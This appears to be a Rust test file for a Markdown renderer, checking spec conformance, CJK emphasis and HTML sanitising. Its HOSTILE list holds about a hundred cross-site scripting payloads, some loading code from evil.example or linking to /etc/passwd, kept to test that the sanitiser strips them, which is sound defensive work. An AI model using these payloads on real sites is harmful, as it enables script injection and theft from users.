//! Markdown by the book: the examples of CommonMark and of GitHub's extensions, and what may stand
//! in a page when raw HTML is allowed.

use crate::html::{Token, assert_safe, tokens};
use serde::Deserialize;
use sopwith::render::markdown_to_html;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

const COMMONMARK: &str = include_str!("../spec/commonmark-0.31.2.json");
const GITHUB: &str = include_str!("../spec/github.json");
const DIFFERENCES: &str = include_str!("../spec/differences.txt");

#[derive(Deserialize)]
struct Example {
    example: u32,
    section: String,
    markdown: String,
    html: String,
}

fn examples(json: &str) -> Vec<Example> {
    serde_json::from_str(json).expect("a list of examples")
}

/// What Sopwith makes of the examples that it deliberately reads differently, by their number.
fn differences(spec: &str) -> BTreeMap<u32, String> {
    let mut differences: BTreeMap<u32, String> = BTreeMap::new();
    let mut listed = false;
    for line in DIFFERENCES.lines().filter(|line| !line.starts_with('#')) {
        if let Some(html) = line.strip_prefix("    ") {
            if let Some(mut last) = differences.last_entry().filter(|_| listed) {
                last.get_mut().push_str(html);
                last.get_mut().push('\n');
            }
        } else if !line.is_empty() {
            let (name, reason) = line.split_once(": ").expect("`spec number: reason`");
            let (of, number) = name.split_once(' ').expect("`spec number`");
            assert!(!reason.is_empty(), "{name} has no reason");
            assert!(["commonmark", "github"].contains(&of), "{name}: there is no spec {of}");
            listed = of == spec;
            if listed {
                let number = number.parse().unwrap_or_else(|_| panic!("{name} has no number"));
                assert!(differences.last_key_value().is_none_or(|(last, _)| *last < number), "{name} is out of order");
                differences.insert(number, String::new());
            }
        }
    }
    differences
}

fn check(spec: &str, json: &str) {
    let examples = examples(json);
    let mut differences = differences(spec);
    let mut report = String::new();
    for Example { example, section, markdown, html } in &examples {
        let ours = markdown_to_html(markdown, false);
        let as_written = levelled(&ours) == levelled(html);
        let problem = match differences.remove(example) {
            Some(_) if as_written => "is listed in differences.txt, but there is no difference",
            Some(listed) if levelled(&listed) != levelled(&ours) => "differs in another way than differences.txt lists",
            None if !as_written => "differs",
            _ => continue,
        };
        let _ = writeln!(
            report,
            "{spec} {example} ({section}) {problem}:\n{markdown}\n--- expected\n{html}\n--- ours\n{ours}"
        );
    }
    assert!(report.is_empty(), "{report}");
    assert!(
        differences.is_empty(),
        "differences.txt lists examples that {spec} does not have: {:?}",
        differences.keys()
    );
}

#[test]
fn commonmark_examples() {
    check("commonmark", COMMONMARK);
}

#[test]
fn github_examples() {
    check("github", GITHUB);
}

/// Elements beside which white space means nothing.
const BLOCKS: [&str; 25] = [
    "blockquote",
    "dd",
    "div",
    "dl",
    "dt",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "section",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// HTML with what does not matter levelled: white space beside block tags, the order of
/// attributes, how characters are escaped, the names that Sopwith gives to headings, footnotes and
/// lists of tasks, and that a cell's alignment is a class.
fn levelled(html: &str) -> String {
    let mut out = String::new();
    let mut in_pre = false;
    let mut in_mention = false;
    let mut after_block = true;
    for token in tokens(html) {
        let is_block = match &token {
            Token::Open { name, .. } | Token::Close(name) => BLOCKS.contains(&name.as_str()),
            Token::Text(_) | Token::Comment(_) => false,
        };
        if is_block && !in_pre {
            out.truncate(out.trim_end().len());
        }
        match token {
            Token::Text(text) => {
                let text = if after_block && !in_pre { text.trim_start() } else { &text };
                out.push_str(&text.replace('&', "&amp;").replace('<', "&lt;"));
                after_block &= text.is_empty();
                continue;
            }
            Token::Open { name, mut attributes } => {
                attributes.retain(|(key, value)| !is_our_name(&name, key, value, in_mention));
                in_mention = is_mention(&name, &attributes);
                for (key, value) in &mut attributes {
                    if matches!(name.as_str(), "th" | "td")
                        && key == "class"
                        && ["left", "center", "right"].contains(&value.as_str())
                    {
                        key.replace_range(.., "align");
                    }
                }
                attributes.sort();
                let _ = write!(out, "<{name}");
                for (key, value) in attributes {
                    let _ = write!(out, " {key}={value:?}");
                }
                out.push('>');
                in_pre |= name == "pre";
            }
            Token::Close(name) => {
                let _ = write!(out, "</{name}>");
                in_pre &= name != "pre";
            }
            Token::Comment(text) => {
                let _ = write!(out, "<!--{text}-->");
            }
        }
        after_block = is_block;
    }
    out.truncate(out.trim_end().len());
    out
}

fn is_our_name(element: &str, attribute: &str, value: &str, in_mention: bool) -> bool {
    match attribute {
        "id" | "href" if in_mention => element == "a",
        "id" => matches!(element, "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "li"),
        "class" => value == "tasks",
        _ => false,
    }
}

/// `<sup class="footnote">`, whose link has the names of the mention and of the note.
fn is_mention(element: &str, attributes: &[(String, String)]) -> bool {
    element == "sup" && attributes.iter().any(|(key, value)| key == "class" && value == "footnote")
}

#[test]
fn mentions_lead_to_their_notes() {
    let html = markdown_to_html(
        "a[^x] b[^*] c[^**] d[^x] e[^返 金]\n\n[^*]: one\n\n[^**]: two\n\n[^X]: three\n\n[^返  金]: four\n",
        false,
    );
    let mut in_mention = false;
    let (mut names, mut mentioned, mut notes) = (BTreeSet::new(), Vec::new(), Vec::new());
    for token in tokens(&html) {
        let Token::Open { name, attributes } = token else { continue };
        for (key, value) in &attributes {
            if key == "id" {
                assert!(names.insert(value.clone()), "{value} twice in {html}");
            }
            match (name.as_str(), key.as_str()) {
                ("a", "href") if in_mention => {
                    mentioned.push(percent_encoding::percent_decode_str(&value[1..]).decode_utf8_lossy().into_owned())
                }
                ("li", "id") => notes.push(value.clone()),
                _ => {}
            }
        }
        in_mention = is_mention(&name, &attributes);
    }
    assert_eq!(notes.len(), 4, "{html}");
    assert_eq!(mentioned, [0, 1, 2, 0, 3].map(|note: usize| notes[note].clone()), "{html}");
}

#[test]
fn levelling_keeps_what_matters() {
    assert_eq!(levelled("<p>a</p>\n<p b='1' a=\"2\">&quot;</p>"), levelled(" <p>a</p><p a=2 b=1>\"</p>\n"));
    for (one, other) in [
        ("<p>a b</p>", "<p>a  b</p>"),
        ("<p>a <em>b</em></p>", "<p>a<em>b</em></p>"),
        ("<pre><code>a\n</code></pre>", "<pre><code>a</code></pre>"),
        ("<p>&lt;b&gt;</p>", "<p><b></p>"),
        ("<p>a</p>", "<p>a<!-- b --></p>"),
        ("<li>a</li>", "<li><p>a</p></li>"),
        ("<a href=\"/a\">a</a>", "<a href=\"/A\">a</a>"),
    ] {
        assert_ne!(levelled(one), levelled(other));
    }
}

#[test]
fn emphasis_beside_cjk_punctuation() {
    for (markdown, html) in [
        ("**「返金」**は", "<strong>「返金」</strong>は"),
        ("は**「返金」**", "は<strong>「返金」</strong>"),
        ("は**「返金」**は", "は<strong>「返金」</strong>は"),
        ("**注意：**返金", "<strong>注意：</strong>返金"),
        ("**注意：**3日以内", "<strong>注意：</strong>3日以内"),
        ("API**「v2」**API", "API<strong>「v2」</strong>API"),
        ("**API(v2)**は", "<strong>API(v2)</strong>は"),
        ("は**API(v2)**は", "は<strong>API(v2)</strong>は"),
        ("は**(A)**は**(B)**は", "は<strong>(A)</strong>は<strong>(B)</strong>は"),
        ("这是**“重要”**的", "这是<strong>“重要”</strong>的"),
        ("这是**《手册》**的，**不要！**再问", "这是<strong>《手册》</strong>的，<strong>不要！</strong>再问"),
        ("~~「旧」~~は", "<del>「旧」</del>は"),
        ("は~~「旧」~~は", "は<del>「旧」</del>は"),
        ("*「斜体」*は***「両方」***は", "<em>「斜体」</em>は<em><strong>「両方」</strong></em>は"),
        ("**完了✅**次へ", "<strong>完了✅</strong>次へ"),
        ("**5℃**以下、**100％**の", "<strong>5℃</strong>以下、<strong>100％</strong>の"),
        ("**（株）**𠮷野家", "<strong>（株）</strong>𠮷野家"),
        ("**(株)**𠮷野家", "<strong>(株)</strong>𠮷野家"),
        (
            "**[返金](/r)**は**[交換](/x)**です",
            "<strong><a href=\"/r\">返金</a></strong>は<strong><a href=\"/x\">交換</a></strong>です",
        ),
        ("**「[返金](/r)」**は", "<strong>「<a href=\"/r\">返金</a>」</strong>は"),
        ("**`返金`**は", "<strong><code>返金</code></strong>は"),
        ("`**「返金」**は`", "<code>**「返金」**は</code>"),
        ("`は**「`と**「返金」**は`」**は`", "<code>は**「</code>と<strong>「返金」</strong>は<code>」**は</code>"),
        ("は\\*\\*「返金」\\*\\*は", "は**「返金」**は"),
        (
            "**「一」**と**「二」**と**三。**四",
            "<strong>「一」</strong>と<strong>「二」</strong>と<strong>三。</strong>四",
        ),
        // A single letter keeps the run on its other side working.
        ("項目**甲**、次", "項目<strong>甲</strong>、次"),
        ("項目**甲**)と**乙**(次)", "項目<strong>甲</strong>)と<strong>乙</strong>(次)"),
        (
            "**甲**、**「乙」**は**「丙」**。**丁**",
            "<strong>甲</strong>、<strong>「乙」</strong>は<strong>「丙」</strong>。<strong>丁</strong>",
        ),
        ("「**甲**(次)", "「<strong>甲</strong>(次)"),
        ("(次)**甲**」", "(次)<strong>甲</strong>」"),
        ("**「一」**と**(二)**と**「三」**", "<strong>「一」</strong>と<strong>(二)</strong>と<strong>「三」</strong>"),
        ("、**甲**項目", "、<strong>甲</strong>項目"),
        // What is no emphasis stays none.
        ("は** 「返金」 **は", "は** 「返金」 **は"),
        ("2 * 3、4 * 5", "2 * 3、4 * 5"),
        // Where the languages have spaces, the rules stay CommonMark's.
        ("**“bold”**text", "**“bold”**text"),
        ("a**(b)**c", "a**(b)**c"),
    ] {
        assert_eq!(markdown_to_html(markdown, false), format!("<p>{html}</p>\n"), "{markdown}");
    }
    let links = "[**「返金」**は]: /r\n\n[**「返金」**は] ![**「図」**は](/は**「図」**は.png \"は**「図」**は\")\n";
    let html = "<p><a href=\"/r\"><strong>「返金」</strong>は</a> <img src=\"/%E3%81%AF**%E3%80%8C%E5%9B%B3%E3%80%8D**%E3%81%AF.png\" \
                alt=\"「図」は\" title=\"は**「図」**は\" /></p>\n";
    assert_eq!(markdown_to_html(links, false), html);
    assert_eq!(
        markdown_to_html("## は**「返金」**は\n", false),
        "<h2 id=\"は返金は\">は<strong>「返金」</strong>は</h2>\n"
    );
}

#[test]
fn a_lone_backslash_in_a_task_does_not_stop_the_parser() {
    let html = "<ul class=\"tasks\">\n<li><input type=\"checkbox\" disabled=\"\" checked=\"\" /> <h1>\\</h1></li></ul>";
    assert_eq!(levelled(&markdown_to_html("- [x] \\\n  ===\n", false)), levelled(html));
    assert!(markdown_to_html("> 1. [ ] \t\\\r\n>    -\n", true).contains('\\'));
}

#[test]
fn sanitised_examples_are_safe() {
    for example in examples(COMMONMARK).into_iter().chain(examples(GITHUB)) {
        assert_safe(&example.markdown, &markdown_to_html(&example.markdown, true));
    }
}

/// Ways to get a script into a page, as raw HTML and as Markdown.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml ><script>alert(1)</script>?>",
    "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>",
    "<style>@import 'javascript:alert(1)'; p { background: url(javascript:alert(1)) }</style>",
    "<p style=\"background: url(javascript:alert(1)); position: fixed\">x</p>",
    "<p STYLE='-moz-binding: url(//evil.example)'>x</p>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>x</button><input type=image src=x onerror=alert(1)></form>",
    "<input onfocus=alert(1) autofocus><input type=text name=password>",
    "<textarea onfocus=alert(1) autofocus></textarea><select onfocus=alert(1)></select>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><use href=\"data:image/svg+xml,x\"/></svg>",
    "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\" srcset=\"javascript:alert(1) 2x\">",
    "<img src=x:x longdesc=javascript:alert(1) usemap=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<table background=\"javascript:alert(1)\"><td background=javascript:alert(1)>x</td></table>",
    "<blockquote cite=\"javascript:alert(1)\"><q cite=javascript:alert(1)>x</q><del cite=javascript:alert(1)>y</del></blockquote>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript&#58;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href='javascript:alert(1)' href='https://a.example'>x</a>",
    "<a href=\"/ok\" ping=\"javascript:alert(1)\" target=_blank onmouseover=alert(1)>x</a>",
    "<a href=\"\u{F8FE}javascript:alert(1)\">x</a><img src=\"\u{F8FE}data:image/svg+xml,x\">",
    "<a href=\"&#xF8FE;java&#9;script:alert(1)\">x</a><a href=\"\u{F8FE} javascript:alert(1)\">x</a>",
    "<p id=x onclick=alert(1) class=y tabindex=1 contenteditable autofocus onfocus=alert(1)>x</p>",
    "<div tabindex=0 onfocus=alert(1)>x</div><pre tabindex=5>x</pre>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<x-y onclick=alert(1)>x</x-y><slot onslotchange=alert(1)></slot>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<\u{A0}javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](\u{F8FE}javascript:alert(1))",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,x \"\\\" onerror=\\\"alert(1)\")",
    "![\" onerror=\"alert(1)](x)",
    "![<img src=x onerror=alert(1)>](x)",
    "[x](/u \"\\\" onclick=\\\"alert(1)\")",
    "[x](/u\"onclick=\"alert(1)\")",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "![[javascript:alert(1)]]",
    "```\"onclick=\"alert(1)\nx\n```",
    "```<script>\nx\n```",
    "# x {#\"onclick=\"alert(1)}",
    "# x {#a onclick=alert(1) .\"onclick=alert(1)}",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: <img src=x onerror=alert(1)>",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "a@b.example<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

#[test]
fn hostile_html_is_made_safe() {
    for hostile in HOSTILE {
        let line = hostile.replace('\n', " ");
        let words = "words that stay";
        for markdown in [
            format!("{hostile}\n\n{words}\n"),
            format!("text {line} {words}\n"),
            format!("# {line}\n\n{words}\n"),
            format!("- {}\n\n  {words}\n", hostile.replace('\n', "\n  ")),
            format!("> {}\n>\n> {words}\n", hostile.replace('\n', "\n> ")),
            format!("| {} |\n| --- |\n| {words} |\n", line.replace('|', "\\|")),
            format!("**{line}** [{line}](/u) ![{line}](/u)\n\n{words}\n"),
            format!("<div>\n{hostile}\n</div>\n\n{words}\n"),
            format!("<p title='\n\n{hostile}\n\n'>\n\n{words}\n"),
            format!("x[^1]\n\n[^1]: {line} {words}\n"),
        ] {
            assert_safe(&markdown, &markdown_to_html(&markdown, true));
        }
    }
}

#[test]
fn harmless_html_stays() {
    for (markdown, html) in [
        ("<kbd>Ctrl</kbd> <sub>1</sub>\n", "<p><kbd>Ctrl</kbd> <sub>1</sub></p>"),
        (
            "<details open><summary>More</summary>\n\n*x*\n\n</details>\n",
            "<details open=\"\"><summary>More</summary><p><em>x</em></p></details>",
        ),
        ("[x](/u) <b>y</b>\n", "<p><a href=\"/u\">x</a> <b>y</b></p>"),
        (
            "[x](https://a.example/b:c#d:e) [x](#a:b) [x](tel:+81) [x](MAILTO:a@b.example) <b>y</b>\n",
            "<p><a href=\"https://a.example/b:c#d:e\">x</a> \
            <a href=\"#a:b\">x</a> <a href=\"tel:+81\">x</a> <a href=\"MAILTO:a@b.example\">x</a> <b>y</b></p>",
        ),
        (
            "Enter the <title> and the <TEXTAREA cols=9>, not </script>.\n\n*x*\n",
            "<p>Enter the &lt;title> and the &lt;TEXTAREA cols=9>, not &lt;/script>.</p><p><em>x</em></p>",
        ),
        (
            "<style>\np { color: red }\n</style>\n\n*x*\n",
            "&lt;style>\np { color: red }\n&lt;/style>\n<p><em>x</em></p>",
        ),
        ("- [x] <b>y</b>\n", "<ul><li><input type=\"checkbox\" checked=\"\" disabled=\"\"> <b>y</b></li></ul>"),
    ] {
        assert_eq!(levelled(&markdown_to_html(markdown, true)), levelled(html), "{markdown}");
    }
}
